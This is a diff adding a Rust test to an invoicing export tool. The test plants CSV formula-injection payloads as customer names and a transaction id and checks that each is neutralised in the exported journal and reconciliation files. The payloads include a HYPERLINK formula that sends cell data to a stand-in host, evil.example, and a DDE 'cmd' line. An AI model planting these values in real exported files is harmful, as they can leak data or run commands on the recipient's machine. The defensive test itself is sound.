@@ -221,3 +221,45 @@ fn an_archived_file_changed_after_issuing_is_refused_and_nothing_is_exported() {
     assert!(!out.exists(), "a half-written export folder was left");
     assert!(!out.with_extension("zip").exists(), "a half-written zip was left");
 }
+
+#[test]
+fn text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_and_amounts_stay_numbers() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("data");
+    fs::create_dir_all(&data).unwrap();
+    for f in ["company.toml", "exchange_rates.csv"] {
+        fs::copy(samples().join(f), data.join(f)).unwrap();
+    }
+    // The issue's payloads as customer names (CSV-quoted in customers.csv) and a transaction id.
+    let customers = fs::read_to_string(samples().join("customers.csv"))
+        .unwrap()
+        .replace("Jürgen Müller", r#""=HYPERLINK(""http://evil.example/?""&A1,""x"")""#)
+        .replace("Élodie Durand", "+cmd|' /C calc'!A0")
+        .replace("Mari Tamm", "-2+3")
+        .replace("Põhjala Disain OÜ", "@SUM(1+1)");
+    fs::write(data.join("customers.csv"), customers).unwrap();
+    let transactions = fs::read_to_string(samples().join("transactions.csv")).unwrap().replace("\nch_1002,", "\n-ch_1002,");
+    fs::write(data.join("transactions.csv"), transactions).unwrap();
+    let e = issue_and_export(&data, &["--month", "2026-10"]);
+
+    let journal = fs::read_to_string(e.out.join("journal.csv")).unwrap();
+    let line = |number: &str| journal.lines().find(|l| l.starts_with(number)).unwrap().to_string();
+    assert_eq!(
+        line("KL-INV-2026-000001"),
+        r#"KL-INV-2026-000001,invoice,2026-10-01,2026-10-01,cus_de_01,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",DE,,EUR,12.60,2.39,14.99,EUR,2.39,1,oss,DE,"#
+    );
+    // A credit note: the name neutralised, its negative amounts plain numbers.
+    assert_eq!(
+        line("KL-CN-2026-000001"),
+        r#"KL-CN-2026-000001,credit_note,2026-10-20,2026-10-20,cus_ee_01,"'-2+3",EE,,EUR,-24.19,-5.81,-30.00,EUR,-5.81,1,domestic,EE,KL-INV-2026-000002"#
+    );
+    let names: Vec<String> = rows(&e.out.join("journal.csv")).into_iter().map(|r| r["customer_name"].clone()).collect();
+    for name in [r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"] {
+        assert!(names.iter().any(|n| n == name), "{name} not in {names:?}");
+    }
+    assert!(names.iter().all(|n| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{names:?}");
+    let reconciliation = fs::read_to_string(e.out.join("reconciliation.csv")).unwrap();
+    assert!(reconciliation.lines().any(|l| l.starts_with("\"'-ch_1002\",charge,succeeded,2026-10-04,USD,21.60,invoiced,")), "{reconciliation}");
+    let totals = fs::read_to_string(e.out.join("journal-totals.csv")).unwrap();
+    assert!(totals.lines().all(|l| !l.contains('\'')), "{totals}");
+}
